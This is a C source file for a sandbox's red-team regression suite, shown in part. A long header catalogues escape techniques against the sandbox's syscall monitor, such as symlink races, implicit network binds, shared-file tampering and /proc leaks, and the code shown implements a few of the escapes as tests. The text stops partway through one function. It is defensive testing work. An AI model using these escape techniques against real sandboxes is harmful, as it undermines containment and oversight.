/* The sandbox's red-team suite: escapes found by attacking the sandbox white-box,
 * with the code in hand. One attack per subcommand; each one is an escape that
 * worked on an earlier version, kept so that it never works again.
 *
 *   sandbox-attack NAME [ARGS...]
 *
 * The usual policy is `--allow-read / --allow-write RW` (what the red team used),
 * run as root in the lane. An attack prints "ESCAPED: NAME: what" and exits 1 when
 * it got out, or "contained: NAME" and exits 0 when every attempt failed. Where the
 * effect can only be seen from outside (a signal to a process that is not the
 * sandbox's, a lock another process sees), the attack prints what it did and the
 * test checks.
 *
 * Families (issue 16, round 0; the attacks the issue reports):
 *   listen-unbound, sendto-unbound   network without a rule (implicit binds)
 *   core-dump RO                     a core written as root into a read-only tree
 *   dontfork                         monitor memory in a MADV_DONTFORK hole after fork
 *   fchmod-race RO RW                check by path, act by number
 *   resolver-race RO RW              the resolver's descriptors renumbered under it
 *   raw-sockets                      raw and packet sockets
 *   setid-files RW                   set-id files left in the writable tree
 *   madvise-advice                   MADV_SOFT_OFFLINE and friends
 * and what the issue saw in the code:
 *   mremap-race                      mremap's hole reused by a monitor mapping
 *   reused-pid                       a reaped child's pid, reused outside
 *   limits-across-processes          threads and memory counted per process only
 *   locks-on-read-only RO            leases and locks on files the program may only read
 *   terminal-ioctls                  TIOCSTI and terminal modes on the outer terminal
 *   devices                          device nodes under an allowed tree
 *   sockopt-pointers                 setsockopt values the kernel follows (iptables)
 *   proc-fd-listing                  /proc/self/fd shows the monitor's descriptors
 *   exec-fd-swap                     the exec loader's descriptor swapped
 *   rlimit-as                        the program's RLIMIT_AS starving the monitor
 *
 * Round 1 (a second white-box pass over the layered monitor):
 *   fchmodat2-nofollow RO RW         fchmodat2(AT_SYMLINK_NOFOLLOW) checked on the link,
 *                                    forwarded as fchmodat, which follows it
 *   chmod-race RO RW                 chmod's final name swapped for a symlink after the
 *                                    check (fchmodat follows it)
 *   unix-connect-race RW SOCKET      a unix connect's final name swapped for a symlink to
 *                                    a socket outside every tree after the check
 *   group-kill                       kill(0) when the sandbox leads a process group that
 *                                    also holds processes outside it (a shell pipeline)
 *   autoreap-reuse                   children reaped by the kernel (SIGCHLD ignored) stay
 *                                    "children" by pid: F_SETOWN and kill(-pid) reach
 *                                    the process that reuses the pid
 *   mmap-undercount LIMIT_MIB        mmap's limit check subtracts memory mapped below
 *                                    the new length, wherever the kernel puts it
 *   exec-bss RW LIMIT_MIB            execve's image is mapped without a limit check
 *   udp-bind-race                    a sibling dissolves the socket's binding between
 *                                    the implicit-bind check and sendto
 *   proc-environ                     /proc/PID/environ and maps of a process outside
 *   rename-whiteout RW               renameat2(RENAME_WHITEOUT) makes a device node
 *   writable-walk-race RO RW         fchmod's check walks the path with descriptors no
 *                                    pin protects: a sibling renumbers them
 *   abstract-autobind                an autobound abstract unix socket in the host's
 *                                    namespace, reachable from outside
 *   connect-unspecified PORT         a rule for 0.0.0.0:PORT lets connect reach
 *                                    127.0.0.1:PORT (the kernel's meaning of 0.0.0.0)
 *   memfd-memory LIMIT_MIB           memory held in a memfd counts against no limit
 *   tty-nonblock                     the outer terminal's shared open file made
 *                                    non-blocking (FIONBIO, F_SETFL)
 *
 * Round 2 (a third white-box pass, after the round-1 fixes):
 *   ip-source-route HOP              IP_OPTIONS (an allowed socket option) or an
 *                                    IP_RETOPTS control message with a loose source
 *                                    route: datagrams (and a SYN) for the one allowed
 *                                    address go to HOP, which no rule names
 *   listen-after-refused PORT        a TCP connect to the allowed 127.0.0.1:PORT is
 *                                    refused; the socket keeps its old port in
 *                                    getsockname but is unbound, so listen's implicit
 *                                    bind looks done and the kernel binds the wildcard
 *                                    address and a new port
 *   connect-v6-unspecified BPORT PORT  [::] from an IPv6 socket bound to a v4-mapped
 *                                    address reaches 127.0.0.1 (IPv4), not [::1]
 *   stale-slot-proc MARKER           an orphaned sandbox process killed by a signal
 *                                    leaves its pid in the limits page; a process
 *                                    outside that reuses the pid is "the sandbox's" in
 *                                    /proc
 *   anon-inode-chmod                 fchmod/futimens on an eventfd: the anonymous inode
 *                                    every eventfd, epoll, timerfd... of the machine shares
 *   fsetsig-shared-file              F_SETSIG on a shared open file (stdin) whose SIGIO
 *                                    owner is a process outside: SIGKILL instead of SIGIO
 *   fast-open-device RO              a device node in an isolated tree: the openat2 fast
 *                                    path skips the device rule
 *   proc-fdinfo                      /proc/self/fdinfo lists (and describes) the
 *                                    monitor's descriptors
 *   overflow-panic                   debug builds: mincore and sigaltstack lengths that
 *                                    overflow the monitor's arithmetic (a panic in ring 0)
 *   script-interp-oracle RW DIR      a #! interpreter outside every tree: execve says
 *                                    whether it exists (the loader stats it directly)
 *   leader-gone RO                   the main thread exits (SYS_exit): /proc/self/fd/N
 *                                    fails, and the monitor takes a read-only file for
 *                                    one with no path: fchmod, futimens, leases pass
 *   mprotect-hoard LIMIT_MIB         mprotect(PROT_NONE) takes written pages off the
 *                                    monitor's memory count; they stay resident
 *   unshared-fd-table RO RW          a thread unshares its descriptor table
 *                                    (CLOSE_RANGE_UNSHARE): /proc/self/fd/N, which the
 *                                    monitor acts and checks through, is the leader's
 *
 * Round 3 (a fourth white-box pass, after the round-2 fixes):
 *   v6-wildcard-takes-ipv4 PORT      a rule for the IPv6 wildcard ([::]:PORT, or ::/0 with
 *                                    PORT 0 for listen's implicit bind) lets an IPv6
 *                                    socket bind [::], which on Linux (bindv6only=0) also
 *                                    takes IPv4: a process outside connects to
 *                                    127.0.0.1:PORT, which no rule names
 *   udp-failed-connect ADDR...       a UDP connect to an allowed address that fails (no
 *                                    route; a broadcast address without SO_BROADCAST)
 *                                    after Linux autobound the socket: it stays bound to
 *                                    0.0.0.0 and a port, and takes datagrams from anyone
 *   udp-send-no-address              write/send/sendmsg with no address on an unbound UDP
 *                                    socket: Linux autobinds it to 0.0.0.0 and a port
 *                                    before it fails (EDESTADDRREQ); the monitor checks
 *                                    implicit binds only for sends that name an address
 *   proc-self-outside DIR            DIR is outside every tree (isolated policy): stat
 *                                    says nothing, but /proc/self (a tree every policy
 *                                    reads) lists mount points (mountinfo) and bound unix
 *                                    socket paths (net/unix) anywhere, DIR's included
 *   shared-file-nonblock             stdin is an open file (a pipe) shared with a process
 *                                    outside: F_SETFL O_NONBLOCK and FIONBIO, refused on
 *                                    the outer terminal only, change it for that process
 *
 * Round 4 (a fifth white-box pass, after the round-3 fixes):
 *   udp-send-other-error             a send with no address on an unbound UDP socket that
 *                                    fails with an error other than EDESTADDRREQ
 *                                    (MSG_OOB: EOPNOTSUPP; more than 65535 bytes:
 *                                    EMSGSIZE): Linux autobound it to 0.0.0.0 and a port
 *                                    first; the monitor undoes the binding only after
 *                                    EDESTADDRREQ
 *   v6-autobind-dual-stack           with only ::/0 allowed (IPv6), an IPv6 UDP socket
 *                                    autobound by a send with no address (or a failed
 *                                    connect) stays bound to [::] dual stack: the undo
 *                                    skips it (the implicit IPv6 bind is allowed) and
 *                                    nothing makes it IPv6-only, so it takes IPv4
 *                                    datagrams from outside, which no rule allows
 *   shared-socket-timeout            stdin is a socket whose open file a process outside
 *                                    shares: SO_RCVTIMEO and SO_SNDTIMEO (allowed socket
 *                                    options, not checked against inherited files) make
 *                                    that process's blocking reads and writes time out,
 *                                    as O_NONBLOCK did in round 3
 *   shared-pipe-packet               stdin is the write end of a pipe whose open file a
 *                                    process outside shares: F_SETFL O_DIRECT (only
 *                                    O_NONBLOCK and O_ASYNC are checked) puts that open
 *                                    file in packet mode, and each of the outside
 *                                    writer's writes becomes a packet whose rest a short
 *                                    read discards
 *   v6only-null-race                 setsockopt(IPV6_V6ONLY) with a null value and length 4
 *                                    is 0 to Linux, but the monitor's check for 0 looks
 *                                    at copied bytes (none): a sibling thread turns
 *                                    IPV6_V6ONLY off between the monitor making the
 *                                    socket IPv6-only and its bind of [::], which then
 *                                    takes IPv4 with only ::/0 allowed
 *   proc-fd-other-process            a forked child lists /proc/PARENT/fd (and the
 *                                    parent's task/TID/fd): the runtime filters the
 *                                    monitor's descriptors out of listings of the
 *                                    calling process's own fd directories only
 *
 * Round 5 (a sixth white-box pass, after the round-4 fixes):
 *   black-hole-any-port              the "black hole" every datagram socket is born
 *                                    connected to is loopback port 0, and Linux reads a
 *                                    peer port of 0 as any port: the socket (bound to
 *                                    127.0.0.1 or ::1 and a kernel-picked port, shown to
 *                                    the program as unbound) takes datagrams from every
 *                                    process on the machine that sends from loopback
 *   mapped-connect-dual-stack        with ::/0 allowed, a connect to an IPv4-mapped
 *                                    address makes the IPv6 socket dual stack first; when
 *                                    that connect fails after Linux autobound the socket,
 *                                    or when the association is then dissolved and a send
 *                                    with no address autobinds it, it stays on [::] dual
 *                                    stack, where IPv4 datagrams from anyone reach it
 *   inherited-append-truncate        stdin is a file outside the writable trees, opened
 *                                    for appending by a process outside (a shell's `>>`):
 *                                    its status flags are protected (O_APPEND stays), but
 *                                    ftruncate and fallocate(PUNCH_HOLE) on it are
 *                                    forwarded, and erase what others wrote there
 *   proc-maps-outside EXE            /proc/self/maps (on the /proc/<pid> allowlist) names
 *                                    the files mapped in the process: the monitor's own
 *                                    executable and libraries, outside every tree of an
 *                                    isolated policy
 *   shared-socket-shutdown           stdin is a socket whose open file a process outside
 *                                    shares: round 4 refuses its status flags and socket
 *                                    options, but shutdown() is forwarded: that process's
 *                                    reads end (EOF) and its writes fail (EPIPE, and
 *                                    SIGPIPE kills a process that keeps the default)
 *   shared-memfd-seal                stdin is a memfd a process outside shares and writes
 *                                    to: F_ADD_SEALS is forwarded on any descriptor, and
 *                                    F_SEAL_WRITE makes that process's writes fail (EPERM)
 *   black-hole-send                  a send with no address on a new datagram socket goes
 *                                    to the black hole, 127.0.0.1 port 0, which no rule
 *                                    names: the datagram (the program's bytes) is on the
 *                                    machine's loopback for any capture outside to read
 *
 * Round 6 (a seventh white-box pass, after the round-5 fixes):
 *   tty-ioctl-race                   ioctl checks "the outer terminal?" on a private
 *                                    duplicate, then forwards on the program's number: a
 *                                    sibling dup2s the terminal (stdin) there in between;
 *                                    TCSETS turns echo off on the shell's terminal
 *   shared-fioasync-race             the same race for FIOASYNC (not_outer on the
 *                                    duplicate): O_ASYNC on an open file (a pipe) a
 *                                    process outside shares
 *   shared-lease-unlock              F_SETLEASE F_UNLCK is forwarded unchecked: it removes
 *                                    the lease a process outside holds through the open
 *                                    file it handed over (a file in a read-only tree)
 *   shared-dnotify-owner             F_NOTIFY (forwarded unchecked) makes the caller the
 *                                    owner of the open file, which F_SETOWN refuses on
 *                                    files the sandbox was started with
 *   shared-flock-unlock              flock(LOCK_UN) and F_OFD_SETLK F_UNLCK on a pipe a
 *                                    process outside shares and holds locks on (a pipe is
 *                                    "the program's own" to the lock check)
 *   inherited-append-noappend        pwritev2 with RWF_NOAPPEND (Linux 6.9) on a file
 *                                    outside the writable tree opened for appending:
 *                                    writes over what others wrote
 *   outlive-supervisor RW            the supervisor is killed (SIGKILL) from outside: a
 *                                    forked sandbox process (no parent death signal) is
 *                                    never killed, and goes on making files
 *   proc-fd-listing-race             the runtime filters a /proc/self/fd listing after
 *                                    reading the directory's link by the program's number
 *                                    again: a sibling swaps "/" in, and the monitor's
 *                                    descriptors are listed
 *   poll-monitor-fds                 poll() on numbers above the program's limit: the
 *                                    monitor's descriptors answer (open or not, readiness)
 *   inherited-tty-fd3                a terminal the sandbox was started with on
 *                                    descriptor 3 (not a standard stream): only terminals
 *                                    among descriptors 0-2 are "the outer terminal", so
 *                                    TCSETS and TIOCSWINSZ change it
 *   shared-unix-disconnect           connect(AF_UNSPEC) on a unix datagram socket a
 *                                    process outside shares (checked on IP sockets only):
 *                                    the outside's association is gone
 *   shared-timerfd-disarm            timerfd_settime on a timerfd a process outside
 *                                    armed and shares: disarmed
 *   shared-signalfd-mask             signalfd4 on a signalfd a process outside shares:
 *                                    its mask changes for that process
 *   shared-epoll-add                 epoll_ctl on an epoll instance a process outside
 *                                    shares (descriptor 3): a file added to its set
 *
 * Round 7 (a fresh white-box pass after the round-6 fixes):
 *   received-fds-shared              stdin is a unix socket a process outside writes
 *                                    SCM_RIGHTS into (after the start-time snapshot of
 *                                    "outer files"): a pipe it keeps, a pty slave, an
 *                                    armed timerfd and a memfd holding data. The monitor
 *                                    treats what recvmsg installs as the program's own:
 *                                    O_NONBLOCK and F_SETPIPE_SZ on the shared pipe,
 *                                    TCSETS on the pty, timerfd disarm, ftruncate and
 *                                    seals on the memfd
 *   ro-fifo-pipe-size FIFO           a FIFO in the read-only tree held open by a process
 *                                    outside: opened for reading (allowed), then
 *                                    F_SETPIPE_SZ shrinks the pipe the outside uses
 *                                    (not_outer knows only inherited inodes)
 *   inherited-append-memfd           stdin is a memfd a process outside wrote, handed
 *                                    over for appending only: ftruncate and fallocate
 *                                    (PUNCH_HOLE) count every memfd as "the program's"
 *   maps-fd-race                     the monitor reads the real /proc/self/maps (to serve
 *                                    the cut copy) through std::fs at the lowest free
 *                                    number, unpinned: a sibling dup()s that number and
 *                                    reads the monitor's mappings
 *   walk-fd-grab RO RW               the path walk's O_PATH descriptors are born at the
 *                                    lowest free number: a sibling duplicates them and
 *                                    tries to reopen a device, create in RO, write or
 *                                    link a read-only file through them
 *   outer-tty-setfl                  F_SETFL on the outer terminal checks only O_NONBLOCK
 *                                    and O_ASYNC: O_APPEND changes the shell's open file
 *   inherited-pipe-fchmod            stdin is a pipe and descriptor 3 a memfd a process
 *                                    outside shares: fchmod and futimens count every
 *                                    pipe, socket and memfd as "the program's" and
 *                                    change the shared inode's mode and times
 *   shared-epoll-oneshot             descriptor 3 is an epoll set a process outside
 *                                    shares, with an EPOLLONESHOT item ready: epoll_wait
 *                                    (forwarded unchecked) takes the event and disarms
 *                                    the item for the outside
 *   shared-inotify-rm-watch          descriptor 3 is an inotify instance a process
 *                                    outside shares, watching a directory:
 *                                    inotify_rm_watch and inotify_add_watch (forwarded
 *                                    with only the number checked) change its watches
 *   inherited-ptmx-lock              descriptor 3 is a pty master a process outside
 *                                    shares: TIOCSPTLCK (allowlisted, not a "terminal
 *                                    change") locks the pty, and nobody outside can open
 *                                    its slave any more
 *   utimes-overflow RW               utimes on a file in the writable tree with a
 *                                    tv_usec near 2^63: the monitor converts it to
 *                                    nanoseconds with an unchecked `* 1000` (a panic in
 *                                    debug builds: the monitor dies)
 *   received-pipe-sigio-kill         stdin is a unix socket through which a process
 *                                    outside sends both ends of a pipe whose read end's
 *                                    SIGIO owner is another outside process: F_SETSIG
 *                                    SIGKILL and O_ASYNC (refused only on inherited
 *                                    files) and one write kill that process
 *
 * Round 8 (a ninth white-box pass, after the round-7 fixes):
 *   shared-map-ro-write RO           a read-only-tree file opened O_RDONLY, mapped
 *                                    shared: mprotect(PROT_WRITE), MADV_REMOVE,
 *                                    /proc/self/mem and process_vm_writev writes
 *   parent-reach                     the supervisor (the parent, outside): SIGSTOP by
 *                                    kill and pidfd, pidfd_getfd, process_vm_readv of
 *                                    it and of the monitor's own code
 *   nofile-raise                     RLIMIT_NOFILE raised so that descriptors reach the
 *                                    runtime's and the monitor's numbers
 *   rename-exchange RO RW            RENAME_EXCHANGE between the trees; a read-only
 *                                    file hard-linked into the writable tree
 *   proc-parent                      the supervisor's /proc entries
 *   proc-aliases DIR RW              mountinfo and net/unix through other names
 *                                    (/proc/net, /proc/mounts, task/TID, relative
 *                                    lookups, a symlink in RW): paths outside every tree
 *   reserved-fd-reopen               the monitor's descriptors opened again by name
 *                                    (/dev/fd/N, task/TID/fd/N, leading zeros)
 *   tmpfile-link RO RW               an O_TMPFILE file of RW linked into RO
 *   clone-vm-process RO              clone(CLONE_VM) without CLONE_THREAD, vfork and
 *                                    CLONE_VM|CLONE_VFORK: the monitor survives them
 *   inherited-dir-escape RW          descriptor 3 is a directory outside every tree:
 *                                    its entries opened, moved, linked, removed,
 *                                    chmod-ed relative to it, and after fchdir
 *
 * Round 9 (a tenth white-box pass, after the round-8 fixes):
 *   received-fd-race                 stdin is a unix socket through which a process
 *                                    outside sends the read ends of pipes it keeps, one
 *                                    at a time: recvmsg installs each at the lowest free
 *                                    number before the monitor notes it as shared, and
 *                                    a sibling thread spinning on F_SETPIPE_SZ at that
 *                                    number shrinks the outside's pipe in between
 *   reserved-fd-probe                poll with fewer entries than RLIMIT_NOFILE (round
 *                                    6's attack asked for 8192, which the kernel refuses
 *                                    with EINVAL), select (one number at a time: EBADF
 *                                    or not) and waitid(P_PIDFD) on numbers at and above
 *                                    the program's limit: the runtime's and the
 *                                    monitor's descriptors answer, and the monitor's
 *                                    pidfd of a child is usable
 *   multicast-join                   with a rule for 127.0.0.1:9 only (no network
 *                                    namespace), IP_ADD_MEMBERSHIP and
 *                                    IPV6_ADD_MEMBERSHIP (allowed socket options) join
 *                                    groups on the machine's interfaces: the kernel
 *                                    sends IGMP/MLD reports naming the group (bits the
 *                                    program chose) onto the network, no rule asked
 *
 * Round 10 (an eleventh white-box pass, after the round-9 fixes):
 *   waitid-which-high-bits           waitid's idtype with its upper 32 bits set
 *                                    (0x100000003): P_PIDFD to Linux (an int), not 3
 *                                    to the monitor's 64-bit check, so the descriptor
 *                                    is not checked: the monitor's pidfd of a child
 *                                    answers, and reaps it
 *   fork-while-receiving             a sibling receives messages of 250 descriptors
 *                                    (the monitor holds its RECEIVED lock while it
 *                                    notes them); fork does not take that lock, and a
 *                                    child forked meanwhile waits for ever in its first
 *                                    call that asks "shared with the outside?"
 *   fork-while-room                  a sibling makes the runtime raise the real
 *                                    RLIMIT_NOFILE again and again (setrlimit, private
 *                                    duplicates: reserved::with_fd_room's spin lock);
 *                                    fork does not take it, and a child forked
 *                                    meanwhile spins for ever before it starts
 *   received-fd-race-mmsg            round 9's received-descriptor race through
 *                                    recvmmsg and recvmsg(MSG_PEEK), which installs a
 *                                    copy of each descriptor and leaves the message
 *   fork-while-receiving control     (the same without descriptors, received without a
 *                                    control buffer, so the monitor never takes its
 *                                    RECEIVED lock or a private duplicate: every child
 *                                    must end; shows the lock is the cause)
 *
 * Round 11 (a twelfth white-box pass, after the round-10 fixes):
 *   nofile-high-bits                 prlimit64/setrlimit with resource 0x100000007: the
 *                                    monitor forwards it (not a limit it keeps), the
 *                                    runtime's guard compares 64 bits (not
 *                                    RLIMIT_NOFILE), Linux reads an unsigned int: the
 *                                    process's real RLIMIT_NOFILE changes
 *   maps-nofile-high-bits            the real hard limit lowered that way: the runtime
 *                                    cannot duplicate its maps descriptor for the
 *                                    monitor, which then reads a fresh one opened at the
 *                                    program's lowest free number: a sibling reads it
 *   fork-nofile-high-bits            the same lowered limit, then fork: the child's
 *                                    runtime cannot move its new VM's descriptors up
 *
 * Round 12 (a thirteenth white-box pass, after the round-11 fixes):
 *   room-window-fd                   the runtime raises the real soft RLIMIT_NOFILE for a
 *                                    moment whenever it makes a duplicate (with_fd_room);
 *                                    a program whose numbers are all used dup()s in a
 *                                    sibling's window and gets descriptors at the
 *                                    runtime's reserved numbers
 *   room-window-maps-child           the consequence: the runtime's numbers full, a forked
 *                                    child's runtime reads /proc/self/maps through fresh
 *                                    descriptors at the program's numbers; a sibling
 *                                    reads the real map (the monitor's files, addresses)
 *   high-inherited-pipe FD           a pipe the sandbox starts with at descriptor FD >= 1024:
 *                                    note_outer_files looks at 0..1023 only, so it counts
 *                                    as the program's own (F_SETPIPE_SZ, F_SETFL)
 *   int-vectors                      `int N` from ring 3 at the vectors ring 0 handles
 *                                    (the TLB-shootdown IPI, the time-slice timer, the
 *                                    exceptions): a gate ring 3 may use runs a ring-0
 *                                    handler on the program's request
 *   monitor-thread-signals           signals (tgkill, rt_tgsigqueueinfo, SIGIO by
 *                                    F_SETOWN_EX to a tid) aimed at the process's threads
 *                                    the program did not make (the monitor's helpers):
 *                                    the program ignores them all, the monitor must live
 *   futex-pi-outside                 FUTEX_LOCK_PI with an outside process's tid as the
 *                                    owner: the kernel attaches PI state to that task and
 *                                    tells whether it exists (ESRCH) where kill and /proc
 *                                    say nothing
 *   close-range-cloexec-fork         close_range(0, ~0, CLOSE_RANGE_CLOEXEC), then fork and
 *                                    an emulated execve: the runtime's and the monitor's
 *                                    descriptors must survive in the child
 *
 * Round 13 (a fourteenth white-box pass, after the round-12 fixes):
 *   accept-efault-leak RW            accept4 with the address in a read-only page: the
 *                                    monitor's copy-out fails (EFAULT) after the kernel
 *                                    made the descriptor, which stays open; made in a
 *                                    sibling's raised-limit window it sits at the
 *                                    runtime's numbers for good (within_limit sees only
 *                                    successes)
 *   fork-room-limit                  a fork while a sibling holds the runtime's raised
 *                                    soft limit: the child keeps it for good (the kernel's
 *                                    limit no longer keeps the program below the reserved
 *                                    numbers)
 *   room-full-of-threads-fork        threads fill the runtime's room with live vCPU
 *                                    descriptors; a forked child inherits them (only the
 *                                    pool is dropped) and its runtime finds no room for
 *                                    its VM: the child dies before it starts
 *   signalfd-returns-monitor-fd      signalfd4 on an existing signalfd is made on the
 *                                    monitor's private duplicate, and Linux returns the
 *                                    descriptor it was given: the program is handed the
 *                                    number of the monitor's duplicate
 *   room-window-dupfd-floor          fcntl(F_DUPFD) with the program's limit as the floor
 *                                    in a sibling's raised-limit window: the kernel places
 *                                    it at the runtime's numbers; it must not be handed over
 *
 * Round 14 (a fifteenth white-box pass, after the round-13 fixes):
 *   sockname-null-len DUNE RW        getsockname/getpeername with a null address: the
 *                                    monitor checks the length pointer only when the
 *                                    address is given, and passes the program's length
 *                                    pointer on; Linux reads an int there and, when it
 *                                    is 0, writes the address's length (chosen by the
 *                                    program: a unix path's length) into the monitor's
 *                                    memory; getsockopt with a null value reads an int of
 *                                    the monitor's memory (zero, positive or negative)
 *   sysenter-vsyscall                ring 3 runs `sysenter`, an x32 system call number,
 *                                    and the vsyscall page's entry points (code that is
 *                                    not the program's)
 *
 * Round 15 (after the no-hole mremap/MAP_FIXED change):
 *   mremap-fixed-fail-hole           mremap(MREMAP_FIXED) onto the program's own range
 *                                    from a range the kernel holds as two vm areas (one
 *                                    to the monitor): Linux unmaps the destination, then
 *                                    fails (EFAULT); the destination stays "the
 *                                    program's", new monitor threads' memory lands in
 *                                    the hole, and write() from it hands Linux monitor
 *                                    memory
 *
 * Round 16 (after the staging-range mremap change):
 *   brk-overcommit-hole              brk grows with one MAP_FIXED read-write over the
 *                                    program's reserved range; Linux 6.1 unmaps it, then
 *                                    refuses the commit (more than RAM and swap): a hole
 *                                    the monitor still records as the program's; a host
 *                                    thread's malloc arena lands there, mprotect makes it
 *                                    ring 3's, ring 3 reads it
 *   brk-overcommit-hole-rw           the same over read-write program memory: no
 *                                    mprotect needed, write(2) from it reads host memory
 *   mremap-budget-hole               an mremap the runtime answers ENOMEM for (memslot
 *                                    budget) after the kernel made it (hangs in the lane)
 *   wait-efault-stale-child          wait4's status copy-out fails after the kernel
 *                                    reaped the child: the pid stays a "child"; F_SETOWN
 *                                    to it after reuse signals a process outside
 *
 * Round 17 (after the round-16 fixes):
 *   cpu-clock-outside PID            a pid hidden in a clock id ((~pid << 3) | 2): the
 *                                    process CPU clock of a process outside (PID, the
 *                                    supervisor, init) read, timed (timer_create attaches
 *                                    a timer to it) with no pid check; capget's header
 *                                    names a pid too
 *   inherited-append-mmap            stdin is an open file outside the writable trees,
 *                                    opened O_RDWR|O_APPEND by a process outside: a
 *                                    MAP_SHARED writable mapping of it writes over what
 *                                    is already there (ftruncate, fallocate, F_SETFL and
 *                                    RWF_NOAPPEND are refused; mmap is not looked at)
 *   user-quota-inotify               inotify instances are counted per user (128 for
 *                                    root by default) across the machine: the sandbox
 *                                    takes them all, and root's processes outside get
 *                                    EMFILE from inotify_init
 *   user-quota-sigpending            queued signals are counted per user across the
 *                                    machine (RLIMIT_SIGPENDING against root's count):
 *                                    the sandbox queues all it can to itself, and
 *                                    root's processes outside get EAGAIN from sigqueue
 *   close-unpinned-race RO RW        pipe2/accept4 whose copy-out fails close their new
 *                                    descriptors with no pin: a sibling frees the number
 *                                    first, the path walk's descriptor lands there, the
 *                                    monitor closes it, a read-only directory takes it
 *                                    (mkdir, and rename between two walks); a number
 *                                    left empty aborts the monitor (IO safety)
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <net/if.h>
#include <dirent.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timerfd.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <linux/futex.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static const char *name;

static void escaped(const char *fmt, ...) __attribute__((format(printf, 1, 2), noreturn));
static void escaped(const char *fmt, ...) {
	va_list ap;
	va_start(ap, fmt);
	printf("ESCAPED: %s: ", name);
	vprintf(fmt, ap);
	printf("\n");
	va_end(ap);
	fflush(stdout);
	exit(1);
}

static void contained(void) {
	printf("contained: %s\n", name);
	fflush(stdout);
	exit(0);
}

static double now(void) {
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

static void need(int argc, int n) {
	if (argc < n) {
		fprintf(stderr, "%s: missing arguments\n", name);
		exit(2);
	}
}

/* ---- network without a rule -------------------------------------------------------- */

static int port_of(int s, char *addr, size_t n) {
	struct sockaddr_storage ss;
	socklen_t l = sizeof ss;
	if (getsockname(s, (struct sockaddr *)&ss, &l))
		return -1;
	if (ss.ss_family == AF_INET) {
		struct sockaddr_in *a = (struct sockaddr_in *)&ss;
		inet_ntop(AF_INET, &a->sin_addr, addr, n);
		return ntohs(a->sin_port);
	}
	struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;
	inet_ntop(AF_INET6, &a->sin6_addr, addr, n);
	return ntohs(a->sin6_port);
}

static void listen_unbound(void) {
	int fams[] = { AF_INET, AF_INET6 };
	for (int i = 0; i < 2; i++) {
		int s = socket(fams[i], SOCK_STREAM, 0);
		if (s < 0)
			continue;
		if (listen(s, 1) == 0) {
			char a[64] = "";
			int p = port_of(s, a, sizeof a);
			escaped("listening on %s port %d with no rule", a, p);
		}
		close(s);
	}
	contained();
}

/* With a rule that allows sending to 127.0.0.1:9 only: sendto on an unbound UDP
 * socket binds it to the wildcard address, where anyone may send to it. */
static void sendto_unbound(void) {
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(9) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	if (sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to) == 1) {
		char a[64] = "";
		int p = port_of(s, a, sizeof a);
		if (p > 0 && !strcmp(a, "0.0.0.0"))
			escaped("sendto bound the socket to %s:%d with no bind rule", a, p);
	}
	contained();
}

/* ---- core dumps ------------------------------------------------------------------------ */

static int has_core(const char *dir) {
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;
	if (!d)
		return 0;
	while ((e = readdir(d)))
		n += !strncmp(e->d_name, "core", 4);
	closedir(d);
	return n;
}

static void core_dump(const char *ro) {
	pid_t c = fork();
	if (c == 0) {
		if (chdir(ro))
			_exit(3);
		struct rlimit r = { RLIM_INFINITY, RLIM_INFINITY };
		setrlimit(RLIMIT_CORE, &r);
		prctl(PR_SET_DUMPABLE, 1);
		signal(SIGQUIT, SIG_DFL);
		raise(SIGQUIT);
		_exit(4);
	}
	int st = 0;
	waitpid(c, &st, 0);
	if (WIFSIGNALED(st) && WCOREDUMP(st))
		escaped("the kernel says it dumped core (status %#x)", st);
	if (has_core(ro))
		escaped("a core file appeared in the read-only tree %s", ro);
	if (has_core("."))
		escaped("a core file appeared in the working directory");
	contained();
}

/* ---- MADV_DONTFORK, then fork ------------------------------------------------------ */

static sigjmp_buf probe_jmp;
static void probe_fault(int sig) {
	(void)sig;
	siglongjmp(probe_jmp, 1);
}

/* Whether the page at p reads (without dying). */
static int readable(volatile const char *p, char *first) {
	if (sigsetjmp(probe_jmp, 1))
		return 0;
	*first = *p;
	return 1;
}

static void *sleeper(void *a) {
	(void)a;
	usleep(200 * 1000);
	return NULL;
}

/* [start, end) of the monitor's executable (`dune`), from /proc/self/stat (the
 * kernel's start_code, field 26, less room for the read-only segment before it, to
 * start_brk, field 47): memory holding pointers into it is the monitor's (a thread
 * stack, a heap block). /proc/self/maps as the program reads it shows only the
 * program's own mappings. */
static uintptr_t dune_lo, dune_hi;
static void find_dune(void) {
	FILE *f = fopen("/proc/self/stat", "r");
	char buf[1024] = "";
	if (!f || !fgets(buf, sizeof buf, f)) {
		fprintf(stderr, "no /proc/self/stat\n");
		exit(2);
	}
	fclose(f);
	char *p = strrchr(buf, ')');
	for (int field = 3; p && field <= 47; field++) {
		p = strchr(p + 1, ' ');
		if (p && field == 26)
			dune_lo = strtoul(p + 1, NULL, 10);
		if (p && field == 47)
			dune_hi = strtoul(p + 1, NULL, 10);
	}
	if (!dune_lo || dune_hi <= dune_lo) {
		fprintf(stderr, "no start_code/start_brk in /proc/self/stat\n");
		exit(2);
	}
	dune_lo = dune_lo > (8u << 20) ? dune_lo - (8u << 20) : 0;
}

static void dontfork(void) {
	find_dune();
	const size_t len = 64 << 20;
	unsigned char *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED)
		exit(2);
	memset(p, 0xab, len);
